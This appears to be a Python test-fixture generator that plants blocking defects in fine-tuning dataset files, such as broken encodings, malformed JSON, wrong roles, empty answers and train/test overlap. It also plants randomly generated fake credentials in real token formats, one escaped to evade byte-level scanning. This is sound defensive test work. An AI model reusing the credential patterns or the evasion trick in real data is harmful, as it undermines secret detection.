"""Planted BLOCK defects."""
import base64, gzip, io, json, os, random, re, string, struct, zipfile
from core import *
import texts as T

N = 20
B = "BLOCK"


def at(r, n, k, lo=4):
    return sorted(r.sample(range(lo, n - 2), k))


def ln(ix):
    return [i + 1 for i in ix]


def chatlines(name, gen=support, n=N, **kw):
    r = rnd(name)
    rows = gen(r, n)
    return r, rows, jl([chat(x) for x in rows], **kw)


# ------------------------------------------------------------------ encoding
def encoding():
    D = "not UTF-8"
    nm = "utf8-latin1-chat.jsonl"
    r, rows, _ = chatlines(nm)
    ix = at(r, N, 5)
    for i, w in zip(ix, ["Café Zürich", "our Malmö depot", "the Orléans crew", "señor at the desk", "naïve question"]):
        rows[i].set_u(rows[i].u + f" Regards, {w}.")
    put(nm, enc(jl([chat(x) for x in rows]), coding="latin-1"), "openai", B, D, "Saved as Latin-1; only five rows have accented letters, all others are plain ASCII", ln(ix))

    nm = "utf8-utf16-export.jsonl"
    r, rows, L = chatlines(nm, qa)
    put(nm, b"\xff\xfe" + ("\n".join(L) + "\n").encode("utf-16-le"), "azure", B, D, "Whole file is UTF-16LE with BOM (PowerShell redirect), which json.loads(bytes) would accept")

    nm = "utf8-one-cp1252-line.jsonl"
    r = rnd(nm)
    L = jl([alpaca(x) for x in support(r, N)])
    L = [x.encode() for x in L]
    L[10] = L[10].replace(b'. ', b'. \x93quoted\x94 \x96 ', 1)
    assert b"\x93" in L[10]
    put(nm, b"\n".join(L) + b"\n", "local", B, D, "Mixed encodings: one pasted line holds Windows-1252 curly quotes and a dash", [11])

    nm = "utf8-excel-ansi.csv"
    r = rnd(nm)
    rows = support(r, N)
    ix = at(r, N, 4)
    for i in ix:
        rows[i].set_u(rows[i].u + " It is about 49 €.")
    put(nm, table(["prompt", "completion"], [[x.u, x.a] for x in rows]).encode("cp1252"), "local", B, D, "CSV saved by Excel as ANSI: the euro sign is byte 0x80", [i + 2 for i in ix])

    nm = "utf8-cut-multibyte-vertex.jsonl"
    r = rnd(nm)
    L = enc(jl([vertex(x) for x in german(r, N)]))
    cut = L.rstrip(b"\n")
    k = cut.rfind(b"\xc3")
    put(nm, cut[:k + 1], "vertex", B, D, "Upload was cut inside a two-byte character of the last line with an umlaut (the rest of the file is missing)", [cut[:k + 1].count(b"\n") + 1], accept_defect=["not UTF-8", "not JSON"])

    nm = "utf8-cesu-surrogate-bytes.jsonl"
    r, rows, L = chatlines(nm, voice)
    L = [x.encode() for x in L]
    L[17] = L[17].replace(b". ", b". \xed\xa0\xbd\xed\xb8\x80 ", 1)
    L[17] = L[17] if b"\xed" in L[17] else L[17].replace(b": ", b": \xed\xa0\xbd\xed\xb8\x80", 1)
    put(nm, b"\n".join(L) + b"\n", "together", B, D, "An emoji from MySQL utf8mb3/CESU-8: surrogates encoded as raw bytes ED A0 BD ED B8 80", [18])


# ------------------------------------------------------------------ JSON
def notjson():
    D = "not JSON"

    def one(nm, target, what, f, gen=support, ren=chat, at_=None, **kw):
        r = rnd(nm)
        L = jl([ren(x) for x in gen(r, N)])
        i = at(r, N, 1)[0] if at_ is None else at_
        L[i] = f(L[i])
        put(nm, L, target, B, D, what, [i + 1], **kw)
    one("json-trailing-comma.jsonl", "openai", "A comma before the closing bracket of messages", lambda s: s.replace("}]}", "},]}"))
    one("json-python-repr.jsonl", "together", "One line was written with str(dict), so it has single quotes", lambda s: repr(json.loads(s)), gen=voice)
    one("json-truncated-last.jsonl", "fireworks", "The last line was cut in the middle of the answer", lambda s: s[:-25], at_=N - 1, gen=qa)
    one("json-raw-tab-in-string.jsonl", "local", "A raw TAB pasted into a string (strict JSON forbids it)", lambda s: re.sub(r'("prompt": "[^ ]+) ', "\\1\t", s), ren=pc)
    one("json-review-comment.jsonl", "openai", "A reviewer left a // remark after the object", lambda s: s + "  // checked by QA, keep", gen=label)
    one("json-curly-quotes.jsonl", "azure", "A word processor turned the structural quotes into curly ones", lambda s: s.replace('"role"', "\u201crole\u201d", 1), gen=qa)
    nm = "json-two-objects-one-line.jsonl"
    r, rows, L = chatlines(nm, invoice)
    L[10] = L[10] + L[11]
    del L[11]
    put(nm, L, "openai", B, D, "Two objects ended up on one line after cat of files without a final newline", [11])
    nm = "json-pretty-printed.jsonl"
    r = rnd(nm)
    put(nm, "\n".join(json.dumps(vertex(x), ensure_ascii=False, indent=1) for x in support(r, 14)) + "\n", "vertex", B, D, "Objects are pretty printed over many lines in a .jsonl file", None)
    nm = "json-login-page.jsonl"
    put(nm, "<!DOCTYPE html>\n<html lang=\"en\"><head><title>Sign in | Workspace</title></head>\n<body><form action=\"/signin\" method=\"post\"><label>Work mail <input name=\"m\"></label><button>Continue</button></form></body></html>\n", "openai", B, D, "The download was a login page, not data", None)

    nm = "csv-merged-quote.csv"
    r = rnd(nm)
    s = table(["prompt", "completion"], [[x.u, x.a] for x in support(r, N)]).split("\r\n")
    s[14] = '"' + s[14].lstrip('"').replace('","', ",", 1)
    put(nm, "\r\n".join(s), "local", B, "provider format mismatch", "A misplaced pair of quotes makes one cell of question and answer, so the answer is missing", [15], accept_defect=["not JSON", "provider format mismatch", "empty target"], lines_are="text lines, header = 1")
    nm = "csv-ragged-unquoted-comma.csv"
    r = rnd(nm)
    rows = qa(r, N)
    out = ["question,answer"]
    ix = []
    for i, x in enumerate(rows):
        if i in (9, 13, 18):
            ix.append(i + 2)
            out.append(f"{x.u.replace(',', ' ')},Yes, but only after the form was signed, {x.a}")
        else:
            out.append(table(["h"], [[x.u, x.a]], nl="\n").split("\n")[1])
    put(nm, "\n".join(out) + "\n", "local", B, "provider format mismatch", "Three records have unquoted commas, hence extra columns and a silently shortened answer", ix, accept=["BLOCK", "WARN"], lines_are="text lines, header = 1")


def numbers():
    D = "NaN/Infinity"
    nm = "nan-completion-pandas.jsonl"
    r = rnd(nm)
    rows = [pc(x) for x in support(r, N)]
    rows[17]["completion"] = float("nan")
    put(nm, jl(rows), "together", B, D, "pandas wrote a missing completion as bare NaN", [18], accept_defect=["NaN/Infinity", "not JSON", "empty target"])
    nm = "nan-score-field.jsonl"
    r = rnd(nm)
    rows = [dict(alpaca(x), score=round(r.uniform(.6, 1), 3)) for x in qa(r, N)]
    rows[11]["score"], rows[15]["score"] = float("nan"), float("-inf")
    put(nm, jl(rows), "local", B, D, "A quality score beside the text is NaN in one row and -Infinity in another", [12, 16], accept_defect=["NaN/Infinity", "not JSON"])
    nm = "nan-infinity-toolargs.jsonl"
    r = rnd(nm)
    rows = tools(r, N)
    rows[19]["tools"][0]["function"]["parameters"]["properties"]["limit"] = {"type": "number", "maximum": float("inf")}
    put(nm, jl(rows), "openai", B, D, "A tool schema has maximum: Infinity deep inside", [20], accept_defect=["NaN/Infinity", "not JSON"])
    nm = "nan-1e999-weight.jsonl"
    r = rnd(nm)
    L = jl([dict(sharegpt(x), quality=round(r.uniform(.5, 1), 2)) for x in support(r, N)])
    L[13] = re.sub(r'"quality": [\d.]+', '"quality": 1e999', L[13])
    put(nm, L, "local", B, D, "1e999 is legal JSON syntax but becomes infinity when read", [14])


def dupkeys():
    D = "duplicate keys"
    nm = "dup-content-key.jsonl"
    r, rows, L = chatlines(nm)
    L[14] = re.sub(r'(\{"role": "assistant", )', r'\1"content": "Draft, do not use.", ', L[14])
    put(nm, L, "openai", B, D, "An assistant message has content twice, the last one silently wins", [15])
    nm = "dup-messages-key.jsonl"
    r, rows, L = chatlines(nm, voice)
    L[8] = L[8][:-1] + ", " + L[9][1:]
    del L[9]
    put(nm, L, "fireworks", B, D, "Two rows were merged into one object with messages twice", [9])
    nm = "dup-escaped-key.jsonl"
    r = rnd(nm)
    L = jl([pc(x) for x in qa(r, N)])
    L[14] = L[14][:-1] + ', "\\u0070rompt": "What are the opening hours of the canteen in August?"}'
    put(nm, L, "together", B, D, "prompt occurs a second time spelt with a unicode escape", [15])
    nm = "dup-header-column.csv"
    r = rnd(nm)
    put(nm, table(["prompt", "completion", "completion"], [[x.u, x.a, worse(x, r)] for x in support(r, N)]), "local", B, D, "Two columns are both called completion, with different text", [1], accept_defect=["duplicate keys", "provider format mismatch"], lines_are="text lines, header = 1")


def nul():
    D = "NUL or lone surrogates"
    nm = "nul-escaped.jsonl"
    r, rows, _ = chatlines(nm)
    rows[11].set_u(rows[11].u[:30] + "\x00" + rows[11].u[30:])
    put(nm, jl([chat(x) for x in rows]), "openai", B, D, "\\u0000 inside a customer message", [12])
    nm = "nul-raw-byte.csv"
    r = rnd(nm)
    s = table(["prompt", "completion"], [[x.u, x.a] for x in support(r, N)]).encode().split(b"\r\n")
    s[16] = s[16].replace(b" the ", b" the\x00", 1) if b" the " in s[16] else s[16].replace(b" ", b"\x00", 1)
    put(nm, b"\r\n".join(s), "local", B, D, "A raw NUL byte from a mainframe export in one CSV record", [17], lines_are="text lines, header = 1", accept_defect=["NUL or lone surrogates", "not UTF-8"])
    nm = "surrogate-cut-emoji.jsonl"
    r = rnd(nm)
    L = jl([vertex(x) for x in voice(r, N)])
    L[12] = L[12].replace('"}]}]}', ' \\ud83d"}]}]}')
    assert "ud83d" in L[12]
    put(nm, L, "vertex", B, D, "An emoji was cut by a length limit in JavaScript: lone high surrogate at the end of the target", [13])
    nm = "surrogate-reversed-pair.jsonl"
    r = rnd(nm)
    L = jl([sharegpt(x) for x in multi(r, N)])
    L[19] = L[19].replace('"value": "', '"value": "\\ude00\\ud83d ', 3)
    put(nm, L, "local", B, D, "Surrogates in the wrong order (a reversed string)", [20])


def deep():
    D = "too deep"
    nm = "deep-6000-brackets.jsonl"
    r = rnd(nm)
    L = jl([dict(alpaca(x), meta=[]) for x in qa(r, 30)])
    L[25] = L[25].replace('"meta": []', '"meta": ' + "[" * 6000 + "]" * 6000)
    put(nm, L, "local", B, D, "6,000 nested brackets in a side field crash a recursive parser", [26])
    nm = "deep-200-schema.jsonl"
    r = rnd(nm)
    rows = tools(r, N)
    s = {"type": "string"}
    for _ in range(200):
        s = {"o": s}
    L = jl(rows)
    L[5] = L[5].replace('"parameters": {', '"parameters": {"x": ' + json.dumps(s) + ", ", 1)
    put(nm, L, "openai", B, D, "A self-including tool schema was expanded to 200 levels", [6])


# ------------------------------------------------------------------ roles
def roles():
    D = "wrong or unknown roles and order"

    def one(nm, target, what, f, gen=support, ren=chat, k=1, **kw):
        r = rnd(nm)
        objs = [ren(x) for x in gen(r, N)]
        ix = at(r, N, k)
        for i in ix:
            f(objs[i])
        put(nm, jl(objs), target, B, D, what, ln(ix), **kw)

    def setrole(key, where, fld, val):
        def f(o):
            o[key][where][fld] = val
        return f
    one("role-bot.jsonl", "openai", "Role bot instead of assistant", setrole("messages", -1, "role", "bot"))
    one("role-capital-assistant.jsonl", "azure", "Role Assistant with a capital letter", setrole("messages", -1, "role", "Assistant"), k=2)
    one("role-trailing-space.jsonl", "fireworks", "Role 'user ' with a trailing blank", setrole("messages", 1, "role", "user "))
    one("role-sharegpt-agent.jsonl", "local", "ShareGPT turn from agent", setrole("conversations", -1, "from", "agent"), ren=sharegpt)
    one("role-system-after-user.jsonl", "openai", "System message placed after the user turn", lambda o: o["messages"].insert(1, o["messages"].pop(1)) or o["messages"].__setitem__(slice(0, 2), o["messages"][1::-1]))
    one("role-two-answers-sharegpt.jsonl", "local", "Two gpt turns in a row, the human turn between them was lost", lambda o: o["conversations"].pop(3), gen=multi, ren=sharegpt)
    one("role-two-model-vertex.jsonl", "vertex", "Two model turns in a row", lambda o: o["contents"].pop(2), gen=multi, ren=vertex)
    one("role-orphan-tool.jsonl", "openai", "A tool result without a preceding tool call", lambda o: o["messages"].insert(2, {"role": "tool", "tool_call_id": "call_7xq", "content": "{\"status\": \"packed\"}"}))
    one("role-missing.jsonl", "together", "A message without role", lambda o: o["messages"][1].pop("role"), gen=qa, accept_defect=[D, "provider format mismatch"])
    nm = "role-toolcall-id-mismatch.jsonl"
    r = rnd(nm)
    rows = tools(r, N)
    i = next(i for i in range(10, N) if len(rows[i]["messages"]) > 4)
    rows[i]["messages"][3]["tool_call_id"] = "call_other"
    put(nm, jl(rows), "openai", B, D, "tool_call_id of the result does not belong to any call", [i + 1], accept_defect=[D, "provider format mismatch"])

    D2 = "last turn not assistant"

    def last(nm, target, what, f, gen=support, ren=chat, k=2):
        r = rnd(nm)
        objs = [ren(x) for x in gen(r, N)]
        ix = at(r, N, k)
        for i in ix:
            f(objs[i])
        put(nm, jl(objs), target, B, D2, what, ln(ix), accept_defect=[D2, D])
    last("last-user-thanks.jsonl", "openai", "The customer has the last word", lambda o: o["messages"].append({"role": "user", "content": "Perfect, that did the trick."}), gen=multi)
    last("last-sharegpt-human.jsonl", "local", "The ShareGPT conversation ends with human", lambda o: o["conversations"].append({"from": "human", "value": "One more thing, does it cost extra?"}), ren=sharegpt)
    last("last-vertex-user.jsonl", "vertex", "contents ends with user", lambda o: o["contents"].append({"role": "user", "parts": [{"text": "Wonderful, bye for now."}]}), ren=vertex, k=1)
    last("last-system-note.jsonl", "fireworks", "A system note 'conversation closed' was exported as the last message", lambda o: o["messages"].append({"role": "system", "content": "Conversation closed by agent."}), k=1)
    nm = "last-tool-result.jsonl"
    r = rnd(nm)
    rows = tools(r, N)
    i = next(i for i in range(14, N) if len(rows[i]["messages"]) > 4)
    rows[i]["messages"] = rows[i]["messages"][:4]
    put(nm, jl(rows), "azure", B, D2, "The row stops after the tool result", [i + 1], accept_defect=[D2, D])
    nm = "last-dpo-preferred-user.jsonl"
    r = rnd(nm)
    rows = [dpo_openai(x, r) for x in support(r, N)]
    rows[16]["preferred_output"][0]["role"] = "user"
    put(nm, jl(rows), "openai", B, D2, "The preferred output of a pair has role user", [17], accept_defect=[D2, D])


STATES = ["packed", "at the depot", "delivered", "held by customs", "waiting for payment", "on a ship", "returned"]


def tools(r, n):
    """OpenAI chat rows with tools: answered calls, calls that end the row, and rows without a call."""
    fn = [{"type": "function", "function": {"name": "find_order", "parameters": {"type": "object", "properties": {"order_id": {"type": "string"}}, "required": ["order_id"]}}},
          {"type": "function", "function": {"name": "open_ticket", "parameters": {"type": "object", "properties": {"subject": {"type": "string"}, "priority": {"type": "string", "enum": ["low", "normal", "high"]}}, "required": ["subject", "priority"]}}}]
    out = []
    for i, x in enumerate(support(r, n)):
        m = [{"role": "system", "content": "Help shop customers; use the tools when data is needed."}]
        oid, cid = f"B{r.randint(10000, 99999)}", "call_" + "".join(r.choices(string.ascii_lowercase + string.digits, k=9))
        if i % 3 == 0:
            st = r.choice(STATES)
            m += [{"role": "user", "content": f"{x.u} The order is {oid}."}, {"role": "assistant", "content": None, "tool_calls": [{"id": cid, "type": "function", "function": {"name": "find_order", "arguments": json.dumps({"order_id": oid})}}]},
                  {"role": "tool", "tool_call_id": cid, "content": json.dumps({"order_id": oid, "state": st})}, {"role": "assistant", "content": f"Order {oid} is {st}. {x.a}"}]
        elif i % 3 == 1:
            subj = " ".join(re.findall(r"\w+", x.u)[3:9])
            m += [{"role": "user", "content": x.u + " Please pass it on."}, {"role": "assistant", "tool_calls": [{"id": cid, "type": "function", "function": {"name": "open_ticket", "arguments": json.dumps({"subject": subj, "priority": r.choice(["low", "normal", "high"])})}}]}]
        else:
            m += [{"role": "user", "content": x.u}, {"role": "assistant", "content": x.a}]
        out.append({"messages": m, "tools": json.loads(json.dumps(fn[1:] if i % 3 == 1 else fn[:1]))})
    return out


# ------------------------------------------------------------------ empty
def empty():
    D = "empty target"

    def one(nm, target, what, f, gen=support, ren=chat, k=2, n=N, **kw):
        r = rnd(nm)
        objs = [ren(x) for x in gen(r, n)]
        ix = at(r, n, k)
        for i in ix:
            f(objs[i])
        put(nm, jl(objs, ensure_ascii="ascii" in kw.pop("opt", "")), target, B, D, what, ln(ix), **kw)
    one("empty-string.jsonl", "openai", "Assistant content is an empty string", lambda o: o["messages"][-1].update(content=""))
    one("empty-whitespace.jsonl", "together", "Completion is only blanks and line breaks", lambda o: o.update(completion="  \n\n "), ren=pc, gen=qa)
    one("empty-zero-width.jsonl", "azure", "Target is a zero width space and a no-break space", lambda o: o["messages"][-1].update(content="\u200b\u00a0\ufeff"), k=1)
    one("empty-null-no-tools.jsonl", "fireworks", "content is null and there is no tool call", lambda o: o["messages"][-1].update(content=None), k=1)
    one("empty-alpaca-missing-output.jsonl", "local", "The output key is absent", lambda o: o.pop("output"), ren=alpaca, gen=qa, k=1, accept_defect=[D, "provider format mismatch"])
    one("empty-vertex-parts.jsonl", "vertex", "parts of the model turn holds one empty text", lambda o: o["contents"][-1].update(parts=[{"text": ""}]), ren=vertex, k=1)
    one("empty-dpo-chosen.jsonl", "local", "chosen is empty while rejected has text", lambda o: o.update(chosen=" "), ren=lambda x: dpo_trl(x, rnd(x.u)), k=1)
    one("empty-think-only.jsonl", "local", "Only an empty think block, nothing after it", lambda o: o["messages"][-1].update(content="<think>\n\n</think>\n\n"), k=1, accept=["BLOCK", "WARN"], accept_defect=[D, "zero trainable tokens"])
    nm = "empty-cell.tsv"
    r = rnd(nm)
    rows = [[x.u, x.a] for x in support(r, N)]
    rows[11][1] = ""
    put(nm, table(["prompt", "completion"], rows, "\t", "\n"), "local", B, D, "One blank answer cell in a TSV", [13], lines_are="text lines, header = 1")
    nm = "empty-merged-cells.xlsx"
    r = rnd(nm)
    rows = [[x.u, x.a] for x in qa(r, N)]
    rows[10][1] = rows[11][1] = None
    put(nm, xlsx([["prompt", "completion"]] + rows, extra='<mergeCells count="1"><mergeCell ref="B11:B13"/></mergeCells>'), "local", B, D, "Answer cells merged over three rows, so the two lower ones are blank", [12, 13], lines_are="sheet rows, header = 1")
    nm = "empty-formula-no-value.xlsx"
    r = rnd(nm)
    rows = [[x.u, x.a] for x in support(r, N)]
    rows[6][1] = F('VLOOKUP(A8,Macros!A:B,2,FALSE)')
    rows[13][1] = F('CONCATENATE("Dear ",A15)')
    put(nm, xlsx([["prompt", "completion"]] + rows), "local", B, D, "Two answers are formulas without a stored value", [8, 15], lines_are="sheet rows, header = 1", accept_defect=[D, "spreadsheets with formulas"])


def zero():
    D = "zero trainable tokens after the real chat template and mask"
    nm = "zero-single-weight0.jsonl"
    r = rnd(nm)
    o = [chat(x) for x in support(r, N)]
    o[13]["messages"][-1]["weight"] = 0
    put(nm, jl(o), "openai", B, D, "The only assistant message of a row has weight 0", [14])
    nm = "zero-multi-all-weight0.jsonl"
    r = rnd(nm)
    o = [chat(x) for x in multi(r, N)]
    for i, x in enumerate(o):
        a = [m for m in x["messages"] if m["role"] == "assistant"]
        for j, m in enumerate(a):
            m["weight"] = 1 if j == len(a) - 1 and i not in (7, 18) else 0
    put(nm, jl(o), "azure", B, D, "In two of the rows all assistant turns are weight 0, the others train their last turn", [8, 19])
    nm = "zero-whole-file.jsonl"
    r = rnd(nm)
    o = [chat(x) for x in qa(r, N)]
    for x in o:
        x["messages"][-1]["weight"] = 0
    put(nm, jl(o), "together", B, D, "A script set weight 0 on every answer of the file", None)
    nm = "zero-fireworks-weight0.jsonl"
    r = rnd(nm)
    o = [chat(x) for x in label(r, 55)]
    o[41]["messages"][-1]["weight"] = 0
    put(nm, jl(o), "fireworks", B, D, "A label with weight 0 is never trained", [42])


def fewrows():
    D = "fewer rows than the target accepts"
    nm = "rows-9-openai.jsonl"
    put(nm, [chat(x) for x in support(rnd(nm), 9)], "openai", B, D, "Nine rows, the API wants ten")
    nm = "rows-12-lines-9-rows.jsonl"
    L = jl([chat(x) for x in qa(rnd(nm), 9)])
    put(nm, "\n".join(L[:3] + [""] + L[3:6] + ["", "   "] + L[6:]) + "\n", "openai", B, D, "Twelve lines of which three are blank, so nine rows", None, accept_defect=[D, "not JSON"])
    nm = "rows-7-azure.jsonl"
    put(nm, enc(jl([chat(x) for x in invoice(rnd(nm), 7)]), bom=True), "azure", B, D, "Seven rows")
    nm = "rows-2-fireworks.jsonl"
    put(nm, [chat(x) for x in voice(rnd(nm), 2)], "fireworks", B, D, "Two rows, Fireworks wants three", None, doubt="minimum is from memory (3)")
    nm = "rows-dpo-6.jsonl"
    r = rnd(nm)
    put(nm, [dpo_openai(x, r) for x in support(r, 6)], "openai", B, D, "Six preference pairs")
    nm = "rows-header-only.csv"
    put(nm, "prompt,completion\r\n", "local", B, D, "Only the header row of a CSV", None, accept_defect=[D, "empty file"])
    nm = "rows-zero-bytes.jsonl"
    put(nm, b"", "openai", B, D, "Empty file of zero bytes", None, accept_defect=[D, "empty file"])
    nm = "rows-only-blank-lines.jsonl"
    put(nm, b"\xef\xbb\xbf\n\n  \r\n\n", "vertex", B, D, "BOM and blank lines, no rows", None, accept_defect=[D, "empty file"])


# ------------------------------------------------------------------ secrets
U, Lo, Dg = string.ascii_uppercase, string.ascii_lowercase, string.digits
AN = U + Lo + Dg


def tok(r, k, al=AN):
    while True:
        s = "".join(r.choices(al, k=k))
        if len(set(s)) > k // 3:
            return s


def pem(r, kind, n=14):
    body = base64.b64encode(bytes(r.randrange(256) for _ in range(48 * n + 21))).decode()
    return f"-----BEGIN {kind}-----\n" + "\n".join(body[i:i + 64] for i in range(0, len(body), 64)) + f"\n-----END {kind}-----"


def b64u(b):
    return base64.urlsafe_b64encode(b).decode().rstrip("=")


def secrets():
    D = "secrets and private keys"

    def go(nm, target, what, secret_of, plant, gen=support, ren=chat, esc=None, **kw):
        r = rnd(nm)
        rows = gen(r, N)
        i = at(r, N, 1)[0]
        s = secret_of(r)
        plant(rows[i], s[0])
        L = jl([ren(x) for x in rows])
        if esc:
            L[i] = esc(L[i], s)
        put(nm, L, target, B, D, what, [i + 1], must_not_print=s[1:] or s[:1], **kw)

    def app(fmt):
        return lambda row, s: row.set_u(row.u + " " + fmt.format(s))

    def appa(fmt):
        return lambda row, s: row.set_a(row.a + " " + fmt.format(s))

    def aws(r):
        a, b = "AKIA" + tok(r, 16, U + "234567"), tok(r, 40, AN + "/+")
        return [f"aws_access_key_id = {a}\naws_secret_access_key = {b}", a, b]
    go("secret-aws-in-question.jsonl", "openai", "AWS key pair pasted by a customer", aws, app("My profile file says\n{}"))
    go("secret-github-pat-code.jsonl", "together", "GitHub token in a code target", lambda r: ["ghp_" + tok(r, 36)], appa("\n# git clone https://x:{}@github.com/acme/tools.git"), gen=code)
    go("secret-rsa-key-alpaca.jsonl", "local", "PEM RSA private key in the input of an Alpaca row", lambda r: (lambda p: [p, p.split("\n")[1], p.split("\n")[5]])(pem(r, "RSA PRIVATE KEY")), app("The server refuses this key:\n{}"), ren=alpaca)
    go("secret-stripe-vertex.jsonl", "vertex", "Stripe live key in a model turn", lambda r: ["sk_live_" + tok(r, 24)], appa("For now use {} in the header."), ren=vertex)
    go("secret-openai-key-unicode-escaped.jsonl", "openai", "OpenAI project key of which the first letters are JSON escapes, so a grep on raw bytes misses it", lambda r: ["sk-proj-" + tok(r, 48) + "T3BlbkFJ" + tok(r, 40)], app("We set {} in the app."), esc=lambda l, s: l.replace("sk-proj-", "\\u0073\\u006b-\\u0070roj-"))
    go("secret-postgres-url.jsonl", "fireworks", "Database address with password", lambda r: (lambda p: [f"postgresql://ledger_rw:{p}@db7.prod.corp-internal.net:5432/ledger", p])(tok(r, 18, AN + "_")), app("The job log shows {} timing out."))
    go("secret-gcp-service-account.jsonl", "together", "Google service account file nested as a string in the prompt", lambda r: (lambda k: [json.dumps({"type": "service_account", "project_id": "fleet-prod-4417", "private_key_id": tok(r, 40, "abcdef" + Dg), "private_key": k + "\n", "client_email": "etl@fleet-prod-4417.iam.gserviceaccount.com"}), k.split("\n")[1], k.split("\n")[7]])(pem(r, "PRIVATE KEY")), app("Config: {}"), ren=pc)

    def jwt(r):
        j = b64u(b'{"alg":"RS256","typ":"JWT"}') + "." + b64u(json.dumps({"sub": "u-88213", "role": "admin", "exp": 1893456000}).encode()) + "." + tok(r, 86, AN + "-_")
        return [j, j]
    go("secret-jwt-bearer.jsonl", "together", "Bearer JWT in a curl command", jwt, app("I call it with: curl -H 'Authorization: Bearer {}' https://api.internal/v2/jobs"))
    go("secret-slack-sharegpt.jsonl", "local", "Slack bot token in a gpt turn", lambda r: ["xoxb-" + tok(r, 12, "123456789") + "-" + tok(r, 13, Dg[1:]) + "-" + tok(r, 24)], appa("The bot runs with {} since May."), ren=sharegpt)
    go("secret-password-in-prose.jsonl", "azure", "A plain password in a sentence", lambda r: ["Wq7!" + tok(r, 9, AN) + "#x"], app("My login is planner-admin and the password is {} if you want to look."), accept=["BLOCK", "WARN"])
    go("secret-hf-token-meta.jsonl", "local", "Hugging Face token in a side column that is not trained on but is uploaded", lambda r: ["hf_" + tok(r, 34, U + Lo)], lambda row, s: row.meta.update(src=f"https://user:{s}@huggingface.co/datasets/acme/tickets"), ren=lambda x: dict(alpaca(x), source=x.meta.get("src", "export 2026-09")))

    nm = "secret-openssh-multiline.csv"
    r = rnd(nm)
    rows = [[x.u, x.a] for x in support(r, N)]
    p = pem(r, "OPENSSH PRIVATE KEY", 6)
    rows[-3][0] += " This is what I have:\n" + p
    put(nm, table(["prompt", "completion"], rows), "local", B, D, "OpenSSH private key over many lines of a quoted CSV cell", [N - 1], must_not_print=[p.split("\n")[1], p.split("\n")[3]], lines_are="text lines, header = 1 (start of the record)")
    nm = "secret-google-key.tsv"
    r = rnd(nm)
    rows = [[x.u, x.a] for x in qa(r, N)]
    k = "AIza" + tok(r, 35, AN + "-_")
    rows[18][1] += f" The map on the intranet uses key={k}."
    put(nm, table(["question", "answer"], rows, "\t", "\n"), "local", B, D, "Google API key in an answer", [20], must_not_print=[k], lines_are="text lines, header = 1")
    nm = "secret-azure-storage.xlsx"
    r = rnd(nm)
    rows = [[x.u, x.a] for x in support(r, N)]
    k = base64.b64encode(bytes(r.randrange(256) for _ in range(64))).decode()
    rows[16][0] += f" Connection: DefaultEndpointsProtocol=https;AccountName=fleetlogs;AccountKey={k};EndpointSuffix=core.windows.net"
    put(nm, xlsx([["prompt", "completion"]] + rows), "local", B, D, "Azure storage connection string in a spreadsheet cell", [18], must_not_print=[k], lines_are="sheet rows, header = 1")
    nm = "secret-hidden-in-tool-args.jsonl"
    r = rnd(nm)
    o = tools(r, N)
    k = "sk-proj-" + tok(r, 44) + "T3BlbkFJ" + tok(r, 44)
    i = next(i for i in range(12, N) if "tool_calls" in o[i]["messages"][-1])
    o[i]["messages"][-1]["tool_calls"][0]["function"]["arguments"] = json.dumps({"subject": f"rotate {k}", "priority": "high"})
    put(nm, jl(o), "openai", B, D, "Key inside the arguments string of a tool call", [i + 1], must_not_print=[k])
    nm = "secret-dpo-rejected-only.jsonl"
    r = rnd(nm)
    o = [dpo_openai(x, r) for x in support(r, N)]
    k = "glpat-" + tok(r, 20, AN + "_-")
    o[15]["non_preferred_output"][0]["content"] += f" Just use {k} like we do."
    put(nm, jl(o), "openai", B, D, "GitLab token only in the rejected answer of a pair", [16], must_not_print=[k])
    nm = "secret-only-in-test.jsonl"
    r = rnd(nm)
    rows = support(r, 56)
    k = "npm_" + tok(r, 36)
    te = rows[30:]
    te[11].set_u(te[11].u + f" Our .npmrc has //registry.npmjs.org/:_authToken={k}")
    put(nm, [chat(x) for x in rows[:30]], "openai", B, D, "npm token in the test file only; the training file is clean", None, test=("secret-only-in-test.test.jsonl", [chat(x) for x in te]), test_lines=[12], must_not_print=[k])


# ------------------------------------------------------------------ overlap
def overlap():
    D = "exact train/test overlap"

    def sp(nm, gen=support, k=56):
        r = rnd(nm)
        rows = gen(r, k)
        return r, rows[:k - 22], rows[k - 22:]
    nm = "overlap-copied-rows.jsonl"
    r, tr, te = sp(nm)
    te[4], te[19] = tr[6].copy(), tr[30].copy()
    put(nm, [chat(x) for x in tr], "openai", B, D, "Two rows are in both files byte by byte", [7, 31], test=("overlap-copied-rows.test.jsonl", [chat(x) for x in te]), test_lines=[5, 20])
    nm = "overlap-other-serialisation.jsonl"
    r, tr, te = sp(nm, german, 46)
    te[7], te[21] = tr[2].copy(), tr[17].copy()
    t = [json.dumps({"messages": [dict(reversed(list(m.items()))) for m in chat(x)["messages"]]}, ensure_ascii=True, separators=(",", ":")) for x in te]
    put(nm, [chat(x) for x in tr], "together", B, D, "Same rows with other key order, spacing and \\u escapes", [3, 18], test=("overlap-other-serialisation.test.jsonl", t), test_lines=[8, 22])
    nm = "overlap-alpaca-vs-csv.jsonl"
    r, tr, te = sp(nm, qa, 56)
    te[10] = tr[25].copy()
    put(nm, [alpaca(x) for x in tr], "local", B, D, "The same example once as Alpaca row and once as CSV record", [26], test=("overlap-alpaca-vs-csv.test.csv", table(["instruction", "input", "output"], [[x.system, x.u, x.a] for x in te])), test_lines=[12])
    nm = "overlap-vertex-one.jsonl"
    r, tr, te = sp(nm, invoice, 60)
    te[21] = tr[37].copy()
    put(nm, [vertex(x) for x in tr], "vertex", B, D, "The last training row is the last test row", [38], test=("overlap-vertex-one.test.jsonl", [vertex(x) for x in te]), test_lines=[22])
    nm = "overlap-xlsx.xlsx"
    r, tr, te = sp(nm)
    te[0] = tr[13].copy()
    hd = [["prompt", "completion"]]
    put(nm, xlsx(hd + [[x.u, x.a] for x in tr]), "local", B, D, "One row of the training workbook is in the test workbook", [15], test=("overlap-xlsx.test.xlsx", xlsx(hd + [[x.u, x.a] for x in te], shared=False)), test_lines=[2], lines_are="sheet rows, header = 1")
    nm = "overlap-same-file.jsonl"
    r = rnd(nm)
    o = jl([chat(x) for x in label(r, 60)])
    put(nm, o, "azure", B, D, "Test file is a shuffled copy of the first half of the training file", list(range(1, 31)), test=("overlap-same-file.test.jsonl", r.sample(o[:30], 30)))


# ------------------------------------------------------------------ format
def mismatch():
    D = "provider format mismatch"
    A = dict(accept_defect=[D, "wrong or unknown roles and order"])
    nm = "format-vertex-to-openai.jsonl"
    put(nm, [vertex(x) for x in support(rnd(nm), 14)], "openai", B, D, "Vertex rows for OpenAI")
    nm = "format-openai-to-vertex.jsonl"
